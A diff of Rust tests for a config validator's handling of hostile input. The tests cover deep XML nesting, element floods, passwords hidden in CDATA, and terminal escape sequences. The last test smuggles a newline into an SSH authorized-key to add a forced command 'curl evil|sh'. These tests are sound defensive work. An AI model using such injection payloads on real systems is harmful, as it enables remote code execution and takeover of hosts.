@@ -471,3 +471,253 @@ fn generate_to_stdout_writes_no_file() {
     assert_eq!(parsed.config.fqdn(), "conf01.example.com");
     assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 0);
 }
+
+// ---- hostile input (issue #10): bounded work, bounded answers, no secret, no escape ----
+
+/// Runs `nodeboot validate` on `content` written as `name` in a fresh directory (relative name,
+/// so messages start with it); text output and JSON output.
+fn validate_file(name: &str, content: &[u8]) -> (Output, Output) {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join(name), content).unwrap();
+    let run = |json: bool| {
+        let mut cmd = nodeboot();
+        cmd.current_dir(dir.path()).arg("validate").arg(name);
+        if json {
+            cmd.arg("--json");
+        }
+        cmd.output().unwrap()
+    };
+    (run(false), run(true))
+}
+
+fn json_errors(out: &Output) -> Vec<serde_json::Value> {
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    v["files"][0]["errors"].as_array().unwrap().clone()
+}
+
+/// The typical transcoding file with the content of `<password-hash>` replaced.
+fn with_password_hash(content: &str) -> String {
+    let good = std::fs::read_to_string(fixtures().join("valid/transcoding.xml")).unwrap();
+    let start = good.find("<password-hash>").unwrap() + "<password-hash>".len();
+    let end = good.find("</password-hash>").unwrap();
+    format!("{}{content}{}", &good[..start], &good[end..])
+}
+
+#[test]
+fn validate_refuses_50000_deep_nesting_with_a_located_error() {
+    // 350 KB: the request that overflowed the stack. Now: one located error, exit 1.
+    let doc = format!(
+        "<node-config schema=\"1\">{}{}</node-config>",
+        "<a>".repeat(50_000),
+        "</a>".repeat(50_000)
+    );
+    assert!(doc.len() > 350_000);
+    let (out, json) = validate_file("deep.xml", doc.as_bytes());
+    let stdout = text(&out.stdout);
+    assert_eq!(out.status.code(), Some(1), "{stdout}{}", text(&out.stderr));
+    // <node-config> is level 1, the 8th <a> is level 9: column 25 + 7 × 3.
+    assert!(
+        stdout.starts_with(
+            "deep.xml:1:46: error: element <a> is nested 9 levels deep, over the limit of 8\n"
+        ),
+        "{}",
+        &stdout[..stdout.len().min(400)]
+    );
+    assert!(
+        stdout.len() < 2000,
+        "the report is bounded: {}",
+        stdout.len()
+    );
+    assert_eq!(json.status.code(), Some(1));
+    let errors = json_errors(&json);
+    assert_eq!(errors.len(), 1, "{errors:?}");
+    assert_eq!(errors[0]["path"], "/node-config/a/a/a/a/a/a/a");
+}
+
+#[test]
+fn validate_one_mib_of_empty_elements_stops_at_the_element_limit() {
+    let head = "<node-config schema=\"1\">";
+    let doc = format!("{head}{}", "<x/>".repeat((1024 * 1024 - head.len()) / 4));
+    let (out, json) = validate_file("wide.xml", doc.as_bytes());
+    assert_eq!(out.status.code(), Some(1));
+    let stdout = text(&out.stdout);
+    // the 4096th element after the root is the 4097th: column 25 + 4095 × 4
+    assert!(
+        stdout.starts_with("wide.xml:1:16405: error: the file has more than 4096 elements\n"),
+        "{}",
+        &stdout[..stdout.len().min(400)]
+    );
+    // the quoted line is a window around the column, not the whole megabyte
+    assert!(stdout.len() < 2000, "{}", stdout.len());
+    assert_eq!(json_errors(&json).len(), 1);
+    // also raw, without a root: one error
+    let (out, _) = validate_file("raw.xml", "<x/>".repeat(262_144).as_bytes());
+    assert_eq!(out.status.code(), Some(1));
+    assert!(
+        text(&out.stdout)
+            .lines()
+            .filter(|l| l.contains(": error: "))
+            .count()
+            <= 101
+    );
+}
+
+#[test]
+fn validate_lists_at_most_100_errors_then_and_n_more() {
+    // 4000 unknown elements (under the element limit) and 200,000 bad references: far more
+    // than 100 findings each, listed as 100 and one "and N more" entry.
+    let unknown = format!(
+        "<node-config schema=\"1\">\n{}</node-config>\n",
+        "<x/>\n".repeat(4000)
+    );
+    let refs = format!(
+        "<node-config schema=\"1\">{}</node-config>",
+        "&a;".repeat(200_000)
+    );
+    for (doc, more) in [
+        (unknown, "and 3906 more errors"),
+        (refs, "and 199900 more errors"),
+    ] {
+        let (out, json) = validate_file("many.xml", doc.as_bytes());
+        assert_eq!(out.status.code(), Some(1));
+        let errors = json_errors(&json);
+        assert_eq!(errors.len(), 101, "{:?}", errors.last());
+        assert_eq!(errors[100]["message"], more);
+        assert_eq!(
+            (errors[100]["line"].as_u64(), errors[100]["path"].as_str()),
+            (Some(0), Some(""))
+        );
+        let stdout = text(&out.stdout);
+        assert_eq!(stdout.matches(": error: ").count(), 101);
+        assert!(
+            stdout.contains(&format!("many.xml: error: {more}\n")),
+            "{stdout}"
+        );
+        let total: usize = more.split(' ').nth(1).unwrap().parse::<usize>().unwrap() + 100;
+        assert!(
+            stdout.ends_with(&format!(
+                "1 file checked: 0 valid, 1 invalid ({total} errors, 0 warnings)\n"
+            )),
+            "{}",
+            &stdout[stdout.len().saturating_sub(300)..]
+        );
+    }
+}
+
+#[test]
+fn validate_never_prints_a_password_hidden_in_cdata_references_or_comments() {
+    let mgmt = std::fs::read_to_string(fixtures().join("valid/management.xml")).unwrap();
+    let web = regex::Regex::new(r#"password-hash="[^"]*""#).unwrap();
+    let cases = [
+        with_password_hash("<![CDATA[correct horse]]>"),
+        with_password_hash("<!-- a --><![CDATA[correct ]]>&#104;orse<!--x-->"),
+        with_password_hash("\n<![CDATA[correct horse\n]]>\n"),
+        // not well-formed inside the secret: quick-xml's words could quote it
+        with_password_hash("<![CDATA[correct horse]]><horse/>"),
+        with_password_hash("<correct-horse>"),
+        with_password_hash("&correct-horse;"),
+        with_password_hash("<![CDATA[correct horse"),
+        // on a line with an error after it, and unread after the error
+        with_password_hash("<![CDATA[correct horse]]></password-hash><x y=1>"),
+        web.replace(&mgmt, r#"password-hash="correct&#32;horse""#)
+            .into_owned(),
+    ];
+    for (i, doc) in cases.iter().enumerate() {
+        assert_ne!(&mgmt, doc);
+        let (out, json) = validate_file("plain.xml", doc.as_bytes());
+        for o in [&out, &json] {
+            let all = text(&o.stdout) + &text(&o.stderr);
+            assert_eq!(o.status.code(), Some(1), "case {i}: {all}");
+            for needle in ["correct", "horse", "&#104;"] {
+                assert!(
+                    !all.contains(needle),
+                    "case {i}: {needle:?} printed:\n{all}"
+                );
+            }
+        }
+    }
+    // JSON metadata: the plain-text password of `pass`, in valid and in broken JSON
+    for doc in [
+        r#"{"management_node_config": {"pass": "correct horse"}}"#,
+        r#"{"management_node_config": {"pass" "correct horse"}}"#,
+        "{\"conferencing_node_config\": \"<node-config schema='1'>\\n<ssh><password-hash><![CDATA[correct horse]]></password-hash></ssh><x y=1></node-config>\"}",
+    ] {
+        let (out, json) = validate_file("meta.json", doc.as_bytes());
+        for o in [&out, &json] {
+            let all = text(&o.stdout) + &text(&o.stderr);
+            assert_eq!(o.status.code(), Some(1), "{all}");
+            assert!(!all.contains("correct"), "{doc}:\n{all}");
+        }
+    }
+}
+
+#[test]
+fn validate_prints_no_control_character_from_the_file() {
+    // ESC and BEL in an element name, in a value, in an attribute and in the file's name
+    let good = std::fs::read_to_string(fixtures().join("valid/transcoding.xml")).unwrap();
+    let doc = good
+        .replacen("<network>", "<network><x\u{1b}]0;owned\u{7}/>", 1)
+        .replacen("<name>", "<name>a&#27;[2J&#7;", 1)
+        .replacen("<ipv4 ", "<ipv4 junk=\"&#x1b;[31m&#x9b;\" ", 1);
+    let name = "bad\u{1b}[2J\u{7}.xml";
+    let (out, json) = validate_file(name, doc.as_bytes());
+    assert_eq!(out.status.code(), Some(1));
+    for b in [0x1b_u8, 0x07, 0x9b] {
+        assert!(
+            !out.stdout.contains(&b) && !out.stderr.contains(&b),
+            "byte {b:#x} printed:\n{}",
+            text(&out.stdout)
+        );
+    }
+    let stdout = text(&out.stdout);
+    assert!(stdout.contains("bad[2J.xml:"), "{stdout}");
+    assert!(
+        stdout.contains("error: an element name here contains the control character U+001B"),
+        "{stdout}"
+    );
+    // JSON escapes what it carries; still no raw control byte
+    assert!(!json.stdout.contains(&0x1b) && !json.stdout.contains(&0x07));
+    // the name and attribute, read when the element name is clean
+    let doc = good.replacen("<name>", "<name>a&#27;[2J&#7;", 1).replacen(
+        "<ipv4 ",
+        "<ipv4 junk=\"&#x1b;[31m&#x9b;\" ",
+        1,
+    );
+    let (out, _) = validate_file("ctl.xml", doc.as_bytes());
+    let stdout = text(&out.stdout);
+    assert!(!out.stdout.contains(&0x1b), "{stdout}");
+    assert!(
+        stdout.contains("error: <name> contains the control character U+001B\n"),
+        "{stdout}"
+    );
+}
+
+#[test]
+fn validate_refuses_a_second_line_inside_an_authorized_key() {
+    // `&#10;` would have written a second authorized_keys line with a forced command
+    let good = std::fs::read_to_string(fixtures().join("valid/transcoding.xml")).unwrap();
+    let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEJveDDZPaLWieLA4qD7Aak3Vrs39NCNlSx891qrtIGg";
+    let start = good.find("<authorized-key>").unwrap() + "<authorized-key>".len();
+    let end = good.find("</authorized-key>").unwrap();
+    let line = good[..start].lines().count();
+    let column = good[..start].lines().last().unwrap().chars().count() + 1;
+    for evil in [
+        format!("{key} a&#10;command=\"curl evil|sh\" {key} b"),
+        format!("{key} a&#13;command=\"curl evil|sh\" {key} b"),
+        format!("{key} a<![CDATA[\n]]>command=\"x\" {key} b"),
+    ] {
+        let doc = format!("{}{evil}{}", &good[..start], &good[end..]);
+        let (out, json) = validate_file("keys.xml", doc.as_bytes());
+        let stdout = text(&out.stdout);
+        assert_eq!(out.status.code(), Some(1), "{stdout}");
+        assert!(
+            stdout.contains(&format!(
+                "keys.xml:{line}:{column}: error: <authorized-key> contains the control character U+000"
+            )),
+            "{stdout}"
+        );
+        let errors = json_errors(&json);
+        assert_eq!(errors.len(), 1, "{errors:?}");
+        assert_eq!(errors[0]["path"], "/node-config/ssh/authorized-key");
+    }
+}
